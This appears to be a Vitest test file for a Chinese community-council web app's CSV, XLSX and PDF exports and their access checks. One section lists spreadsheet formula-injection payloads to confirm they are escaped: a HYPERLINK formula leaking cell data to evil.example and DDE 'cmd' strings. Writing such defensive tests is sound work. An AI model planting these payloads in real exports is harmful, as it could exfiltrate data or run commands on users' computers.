import fs from "node:fs";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { eq } from "drizzle-orm";
import { NextRequest } from "next/server";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import type { DB } from "@/db/client";
import {
  agendaCategories,
  agendaItems,
  ballots,
  grids,
  meetingAgendaItems,
  meetings,
  planRevisions,
  plans,
  resolutions,
  satisfactionVotes,
  supervisionRatings,
  topicEvents,
  topics,
} from "@/db/schema";
import { BOM, toCsv, toXlsx } from "@/lib/exports/format";
import { shanghaiDateTime } from "@/lib/time";
import { ballotHeaders, ballotRows, ratingHeaders, ratingRows, topicHeaders, topicRows } from "@/lib/exports/rows";
import { resolveExportScope } from "@/lib/exports/scope";
import { parseExportFile } from "@/lib/exports/export-file";
import { getTopicRecord, loadTopicRecord } from "@/lib/exports/topic-record";
import { defaultCjkFontPath } from "@/lib/exports/topic-record-pdf";
import { issueApiToken } from "@/lib/auth/tokens";
import * as exportRoute from "@/app/api/v1/exports/[file]/route";
import * as recordRoute from "@/app/topics/[id]/record.pdf/route";
import { documentFromText } from "@/lib/richtext/document";
import { actorOf, ctxAs, tempDb } from "../helpers/db";
import { makeCommunity, makePerson } from "../helpers/factory";
import { first } from "@/db/query";

// The routes build the responses (headers, JSON errors): they are called as the app serves them,
// with a bearer token, in the test's database (GRIDCOUNCIL_DB). Nobody has a session cookie here.
vi.mock("next-auth", async (importOriginal) => ({ ...(await importOriginal<typeof import("next-auth")>()), getServerSession: async () => null }));

let t: ReturnType<typeof tempDb>;
let db: DB;
let place: Awaited<ReturnType<typeof makeCommunity>>;
let ids: Awaited<ReturnType<typeof seed>>;

const created = new Date("2026-03-01T02:30:00Z"); // 10:30 in Beijing
const closed = new Date("2026-04-10T16:05:00Z"); // 00:05 on 11 April in Beijing

async function seed() {
  const chief = await makePerson(db, place, "gridChief", { grid: "A" });
  const chiefB = await makePerson(db, place, "gridChief", { grid: "B" });
  const admin = await makePerson(db, place, "communityAdmin");
  const resident = await makePerson(db, place, "resident", { grid: "A" });
  const supervisor = await makePerson(db, place, "supervisor");
  const cat = await first(db.insert(agendaCategories).values({ communityId: place.community.id, name: "公共事务" }).returning());
  const item = await first(db.insert(agendaItems).values({ categoryId: cat.id, name: "楼道堆物" }).returning());
  const topicBase = {
    communityId: place.community.id,
    agendaItemId: item.id,
    descriptionJson: documentFromText("一楼楼道停放电动车，存在消防隐患。\n希望统一规划充电棚。"),
    descriptionHtml: "<p>一楼楼道停放电动车</p>",
    proposerId: resident.id,
    cosignThreshold: 5,
    cosignDeadline: new Date("2026-03-15T00:00:00Z"),
  };
  // Rows written by hand, not makeTopic: the exports are compared field by field with a closed
  // topic's fixed dates and counts, a state past the vote that makeTopic does not reach.
  const topic = await first(db
    .insert(topics)
    .values({ ...topicBase, gridId: place.gridA.id, title: "电动车进楼道充电问题", state: "closed", cosignCount: 6, opinionCount: 3, rectificationRound: 1, createdAt: created, closedAt: closed })
    .returning());
  const topicB = await first(db.insert(topics).values({ ...topicBase, gridId: place.gridB.id, proposerId: chiefB.id, title: "第二网格的议题", state: "consulting" }).returning());
  const plan = await first(db.insert(plans).values({ topicId: topic.id, title: "建设充电棚", kind: "official", authorId: chief.id, currentRevision: 2 }).returning());
  for (const number of [1, 2])
    await db.insert(planRevisions)
      .values({ planId: plan.id, number, authorId: chief.id, bodyJson: documentFromText("方案"), bodyHtml: "<p>方案</p>", responsibleText: number === 2 ? "测试物业" : "旧责任方", budgetFen: number === 2 ? 1234550 : 1, deadline: "2026-05-01", milestones: [] });
  const ballotBase = { communityId: place.community.id, gridId: place.gridA.id, kind: "single" as const, electorateKind: "gridResidents" as const, createdBy: chief.id, opensAt: created, closesAt: closed };
  // A result as closeInTx stores it (a BallotResult): the record must word it, not print its field names.
  const storedResult = {
    kind: "single",
    rule: "simpleMajority",
    passed: true,
    reasonKey: "passed",
    figures: [{ key: "approvalVotes", numerator: 25, denominator: 31, threshold: { num: 1, den: 2, strict: true }, met: true, percent: "80.6%", thresholdPercent: "50.0%", comparator: ">" }],
    votesCast: 31,
    electorCount: 40,
    electorAreaHundredths: 0,
    votedAreaHundredths: 0,
    counts: { agree: 25, disagree: 4, abstain: 2 },
    optionCounts: null,
    choice: null,
    quorum: null,
    winningPlanId: null,
  };
  const closedBallot = await first(db
    .insert(ballots)
    .values({ ...ballotBase, topicId: topic.id, title: "表决：建设充电棚", rule: "simpleMajority", status: "closed", secret: true, electorCount: 40, votedCount: 31, passed: true, result: storedResult, closedAt: closed })
    .returning());
  const openBallot = await first(db
    .insert(ballots)
    .values({ ...ballotBase, topicId: topic.id, title: "表决：追加预算", rule: "ownersMajority", electorateKind: "estateOwners", status: "open", secret: false, electorCount: 50, votedCount: 12, passed: null })
    .returning());
  await db.insert(ballots).values({ ...ballotBase, gridId: place.gridB.id, topicId: topicB.id, title: "第二网格表决", rule: "simpleMajority" });
  await db.insert(resolutions).values({ topicId: topic.id, ballotId: closedBallot.id, planId: plan.id, number: `T决〔2026〕${topic.id}号`, title: "关于建设充电棚的决议", text: "同意建设充电棚。" });
  const meeting = await first(db.insert(meetings).values({ communityId: place.community.id, gridId: place.gridA.id, title: "三月网格议事会", startsAt: created, createdBy: chief.id, minutesPublishedAt: closed }).returning());
  await db.insert(meetingAgendaItems).values({ meetingId: meeting.id, topicId: topic.id, position: 1, conclusion: "同意起草充电棚方案" });
  const unpublished = await first(db.insert(meetings).values({ communityId: place.community.id, gridId: place.gridA.id, title: "未公布纪要的会", startsAt: closed, createdBy: chief.id }).returning());
  await db.insert(meetingAgendaItems).values({ meetingId: unpublished.id, topicId: topic.id, position: 1, conclusion: "尚未公布的结论" });
  await db.insert(topicEvents).values({ topicId: topic.id, actorId: resident.id, kind: "proposed", at: created });
  await db.insert(topicEvents).values({ topicId: topic.id, actorId: chief.id, kind: "admit", data: { level: "grid" }, at: created });
  await db.insert(topicEvents).values({ topicId: topic.id, actorId: chief.id, kind: "planDrafted", data: { title: "建设充电棚" }, at: closed });
  await db.insert(supervisionRatings).values({ topicId: topic.id, round: 1, supervisorId: supervisor.id, process: 5, timeliness: 4, quality: 4, transparency: 5, satisfaction: 3, comment: "棚顶需加固", createdAt: closed });
  await db.insert(satisfactionVotes).values({ topicId: topic.id, round: 1, personId: resident.id, answer: "satisfied" });
  return { chief, chiefB, admin, resident, supervisor, topic, topicB, closedBallot, openBallot, plan };
}

beforeEach(async () => {
  t = tempDb();
  db = t.db;
  process.env.GRIDCOUNCIL_DB = t.file;
  place = await makeCommunity(db);
  ids = await seed();
});
afterEach(() => t.cleanup());

type Route<P> = { GET: (req: NextRequest, ctx: { params: Promise<P> }) => Promise<Response> };

/** GET `url` from `route` as `person` (bearer token) or nobody, asking for `locale`. */
async function get<P>(route: Route<P>, url: string, params: P, person: { id: number } | null, locale: "zh-CN" | "en") {
  const headers: Record<string, string> = { "accept-language": locale };
  if (person) headers.authorization = `Bearer ${(await issueApiToken(db, person.id)).token}`;
  return route.GET(new NextRequest(`http://localhost${url}`, { headers }), { params: Promise.resolve(params) });
}
const exportAs = (person: { id: number } | null, file: string, query: string, locale: "zh-CN" | "en" = "zh-CN") =>
  get(exportRoute, `/api/v1/exports/${file}${query}`, { file }, person, locale);
const recordAs = (person: { id: number } | null, topicId: number, locale: "zh-CN" | "en" = "zh-CN") => get(recordRoute, `/topics/${topicId}/record.pdf`, { id: String(topicId) }, person, locale);

const gridAScope = () => ({ communityId: place.community.id, gridId: place.gridA.id });

describe("row builders", () => {
  it("topics: Chinese headers and values, scoped to the grid", async () => {
    const table = await topicRows(db, gridAScope());
    expect(table.headers).toEqual(["编号", "标题", "网格", "清单事项", "阶段", "层级", "发起人", "附议人数", "意见数", "整改轮次", "发起时间", "办结时间"]);
    expect(table.headers).toBe(topicHeaders);
    expect(table.rows).toEqual([[ids.topic.id, "电动车进楼道充电问题", "第一网格", "楼道堆物", "已办结", "网格", ids.resident.name, 6, 3, 1, "2026-03-01 10:30", "2026-04-11 00:05"]]);
    // The community-wide scope includes grid B's topic too.
    expect((await topicRows(db, { communityId: place.community.id, gridId: null })).rows.map((r) => r[1])).toEqual(["电动车进楼道充电问题", "第二网格的议题"]);
  });

  it("ballots: results of closed ballots only; an open ballot exposes no result", async () => {
    const table = await ballotRows(db, gridAScope());
    expect(table.headers).toBe(ballotHeaders);
    expect(table.headers).toEqual(["编号", "议题", "表决规则", "表决人范围", "不记名", "开始", "截止", "应参与", "已参与", "是否通过"]);
    expect(table.rows).toHaveLength(2);
    const [c, o] = table.rows;
    expect(c).toEqual([ids.closedBallot.id, "电动车进楼道充电问题", "过半数通过", "本网格全体已核实居民", "是", "2026-03-01 10:30", "2026-04-11 00:05", 40, 31, "通过"]);
    expect(o).toEqual([ids.openBallot.id, "电动车进楼道充电问题", "业主共同决定（一般事项）", "小区全体业主", "否", "2026-03-01 10:30", "2026-04-11 00:05", "", "", "表决中"]);
    expect(o).not.toContain(12);
    expect(o).not.toContain(50);
  });

  it("ratings: one row per supervisor and round", async () => {
    const table = await ratingRows(db, gridAScope());
    expect(table.headers).toBe(ratingHeaders);
    expect(table.headers).toEqual(["议题", "轮次", "督导员", "过程规范", "办理时效", "完成质量", "公开透明", "群众满意", "意见", "时间"]);
    expect(table.rows).toEqual([["电动车进楼道充电问题", 1, ids.supervisor.name, 5, 4, 4, 5, 3, "棚顶需加固", "2026-04-11 00:05"]]);
    expect((await ratingRows(db, { communityId: place.community.id, gridId: place.gridB.id })).rows).toEqual([]);
  });

  it("dates are in Beijing time", () => {
    expect(shanghaiDateTime(new Date("2026-12-31T16:00:00Z"))).toBe("2027-01-01 00:00");
    expect(shanghaiDateTime(null)).toBe("");
  });
});

describe("files", () => {
  it("CSV starts with a BOM and round-trips the Chinese text", async () => {
    const csv = toCsv(await topicRows(db, gridAScope()));
    expect(csv.startsWith(BOM)).toBe(true);
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(topicHeaders);
    expect(parsed[1]![1]).toBe("电动车进楼道充电问题");
  });

  it("XLSX opens with exceljs and has the header row", async () => {
    const buf = await toXlsx(await ballotRows(db, gridAScope()), "表决");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("表决")!;
    expect((ws.getRow(1).values as unknown[]).slice(1)).toEqual(ballotHeaders);
    expect(ws.getRow(2).getCell(2).value).toBe("电动车进楼道充电问题");
    expect(ws.rowCount).toBe(3);
  });

  it("the export response carries type, disposition with date, and BOM", async () => {
    const res = await exportAs(ids.chief, "topics.csv", `?gridId=${place.gridA.id}`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="topics-grid${place.gridA.id}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    const x = await exportAs(ids.admin, "ratings.xlsx", "");
    expect(x.status).toBe(200);
    expect(x.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(x.headers.get("content-disposition")).toContain(`ratings-community${place.community.id}-`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await x.arrayBuffer());
    expect((wb.worksheets[0]!.getRow(1).values as unknown[]).slice(1)).toEqual(ratingHeaders);
  });

  it("unknown export files are not found", () => {
    expect(() => parseExportFile("people.csv")).toThrow();
    expect(() => parseExportFile("topics.pdf")).toThrow();
    expect(parseExportFile("ballots.xlsx")).toEqual({ kind: "ballots", format: "xlsx" });
  });
});

describe("cells a spreadsheet would execute", () => {
  const attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example")\n第二行'];

  it("CSV: a topic title, a grid name and a rating comment that start like a formula arrive as text; numbers stay numbers", async () => {
    await db.update(topics).set({ title: attacks[0]! }).where(eq(topics.id, ids.topic.id));
    await db.update(grids).set({ name: "=1+1" }).where(eq(grids.id, place.gridA.id));
    await db.update(supervisionRatings).set({ comment: attacks[6]! });
    const res = await exportAs(ids.chief, "topics.csv", `?gridId=${place.gridA.id}`);
    const text = new TextDecoder().decode(await res.arrayBuffer());
    const row = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data[1]!;
    expect(row[1]).toBe(`'${attacks[0]}`);
    expect(row[2]).toBe("'=1+1");
    expect(row[0]).toBe(String(ids.topic.id));
    expect(text).not.toMatch(/(^|[\r\n,])"?=/);

    const ratings = Papa.parse<string[]>(toCsv(await ratingRows(db, gridAScope())).slice(1), { skipEmptyLines: true }).data[1]!;
    expect(ratings[8]).toBe(`'${attacks[6]}`);
  });

  it("CSV: every dangerous first character is escaped, a negative number is left numeric", () => {
    const csv = toCsv({ headers: ["标题", "预算"], rows: [...attacks.map((a) => [a, -5]), ["电梯加装", 12]] });
    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
    expect(rows.map((r) => r[0])).toEqual([...attacks.map((a) => `'${a}`), "电梯加装"]);
    expect(rows.map((r) => r[1])).toEqual([...attacks.map(() => "-5"), "12"]);
  });

  it("XLSX: the same values are plain text cells, never formulas", async () => {
    const buf = await toXlsx({ headers: ["标题", "预算"], rows: attacks.map((a) => [a, -5]) }, "议题");
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const ws = wb.getWorksheet("议题")!;
    attacks.forEach((a, i) => {
      const cell = ws.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.value).toBe(a.replace("\r", "\n")); // XML has no bare CR: it reads back as LF
      expect(cell.formula).toBeUndefined();
      expect(ws.getRow(i + 2).getCell(2).value).toBe(-5);
    });
  });
});

describe("authorization", () => {
  it("a resident is refused (403)", async () => {
    const res = await exportAs(ids.resident, "topics.csv", `?gridId=${place.gridA.id}`);
    expect(res.status).toBe(403);
    expect(((await res.json()) as { error: { code: string } }).error.code).toBe("forbidden");
    const all = await exportAs(ids.resident, "topics.csv", "", "en");
    expect(all.status).toBe(403);
  });

  it("a chief of another grid is refused (403), and a chief cannot export the whole community", async () => {
    const res = await exportAs(ids.chiefB, "ballots.xlsx", `?gridId=${place.gridA.id}`);
    expect(res.status).toBe(403);
    await expect(resolveExportScope(db, await actorOf(db, ids.chief.id), { gridId: null })).rejects.toThrow(/forbidden/);
    expect(await resolveExportScope(db, await actorOf(db, ids.chiefB.id), { gridId: place.gridB.id })).toEqual({ communityId: place.community.id, gridId: place.gridB.id });
  });

  it("nobody signed in gets 401; community admins get their community", async () => {
    const res = await exportAs(null, "topics.csv", "");
    expect(res.status).toBe(401);
    expect(await resolveExportScope(db, await actorOf(db, ids.admin.id), {})).toEqual({ communityId: place.community.id, gridId: null });
    const other = await makeCommunity(db);
    const outsider = await makePerson(db, other, "communityAdmin");
    const refused = await exportAs(outsider, "topics.csv", `?gridId=${place.gridA.id}`);
    expect(refused.status).toBe(403);
  });
});

describe("topic record PDF", () => {
  it("gathers published conclusions, current plan revision, closed ballots and rating means", async () => {
    const r = await loadTopicRecord(db, ids.topic);
    expect(r.description).toBe("一楼楼道停放电动车，存在消防隐患。\n希望统一规划充电棚。");
    expect(r.grid).toBe("第一网格");
    expect(r.item).toBe("楼道堆物");
    // The level in words, not the stored value ("准入议题（grid）" before).
    expect(r.timeline.map((e) => e.what)).toEqual(["发起议题", "准入议题（网格级）", "提出方案《建设充电棚》"]);
    expect(r.timeline[0]!.actor).toBe(ids.resident.name);
    expect(r.conclusions.map((c) => c.conclusion)).toEqual(["同意起草充电棚方案"]);
    expect(r.plans).toEqual([{ title: "建设充电棚", revision: 2, responsible: "测试物业", budget: "12345.50 元", deadline: "2026-05-01" }]);
    expect(r.ballots.map((b) => b.title)).toEqual(["表决：建设充电棚"]);
    expect(r.ballots[0]!.passed).toBe(true);
    // Closed at its announced time: the period as announced, no early close.
    expect(r.ballots[0]).toMatchObject({ opensAt: "2026-03-01 10:30", closesAt: "2026-04-11 00:05", earlyClose: null });
    // Every figure labelled in words, none by the stored result's field names.
    expect(r.ballots[0]!.figures).toEqual([
      ["应参与", "40"],
      ["已参与", "31"],
      ["同意", "25 票"],
      ["反对", "4 票"],
      ["弃权", "2 票"],
      ["同意票数", "80.6% > 50.0%（25 / 31 票），达到"],
      ["结论", "各项指标均已达到。"],
    ]);
    const printed = [...r.ballots.flatMap((b) => b.figures.flat()), ...r.timeline.map((e) => e.what)].join("\n");
    for (const raw of ["kind", "rule", "electorCount", "winningPlanId", "reasonKey", "votesCast", "agree", "grid"]) expect(printed).not.toContain(raw);
    expect(r.resolutions[0]!.text).toBe("同意建设充电棚。");
    expect(r.ratings).toEqual([
      {
        round: 1,
        count: 1,
        means: [["过程规范", "5.00"], ["办理时效", "4.00"], ["完成质量", "4.00"], ["公开透明", "5.00"], ["群众满意", "3.00"]],
        satisfaction: [["满意", 1], ["基本满意", 0], ["不满意", 0]],
      },
    ]);
  });

  it("renders a PDF with the system CJK font, or answers 503 when the server has none", async () => {
    const res = await recordAs(ids.resident, ids.topic.id);
    if (fs.existsSync(defaultCjkFontPath)) {
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("application/pdf");
      expect(res.headers.get("content-disposition")).toBe(`inline; filename="topic-${ids.topic.id}.pdf"`);
      const buf = Buffer.from(await res.arrayBuffer());
      expect(buf.subarray(0, 4).toString("latin1")).toBe("%PDF");
      expect(buf.length).toBeGreaterThan(2000);
    } else {
      expect(res.status).toBe(503);
      expect(((await res.json()) as { error: { message: string } }).error.message).toContain("fonts-noto-cjk");
    }
  }, 30_000);

  it("answers 503 naming fonts-noto-cjk when the font file is missing", async () => {
    const configured = process.env.GRIDCOUNCIL_PDF_FONT;
    process.env.GRIDCOUNCIL_PDF_FONT = "/nonexistent/NotoSansCJK-Regular.ttc";
    const res = await recordAs(ids.resident, ids.topic.id, "en").finally(() => {
      if (configured === undefined) delete process.env.GRIDCOUNCIL_PDF_FONT;
      else process.env.GRIDCOUNCIL_PDF_FONT = configured;
    });
    expect(res.status).toBe(503);
    expect(res.headers.get("content-type")).toContain("application/json");
    expect(((await res.json()) as { error: { code: string; message: string } }).error).toMatchObject({ code: "font_missing", message: expect.stringContaining("fonts-noto-cjk") });
  });

  it("getTopicRecord: the same plain data for whoever may see the topic, not found for anyone else", async () => {
    expect(await getTopicRecord(await ctxAs(ids.resident, db), { topicId: ids.topic.id })).toEqual(await loadTopicRecord(db, ids.topic));
    const outsider = await makePerson(db, await makeCommunity(db), "resident");
    await expect(getTopicRecord(await ctxAs(outsider, db), { topicId: ids.topic.id })).rejects.toThrow(/topicNotFound/);
    await expect(getTopicRecord(await ctxAs(ids.resident, db), { topicId: "abc" })).rejects.toThrow();
  });

  it("is refused to whoever may not see the topic", async () => {
    const other = await makeCommunity(db);
    const outsider = await makePerson(db, other, "resident");
    expect((await recordAs(outsider, ids.topic.id)).status).toBe(404);
    expect((await recordAs(null, ids.topic.id)).status).toBe(401);
  });
});
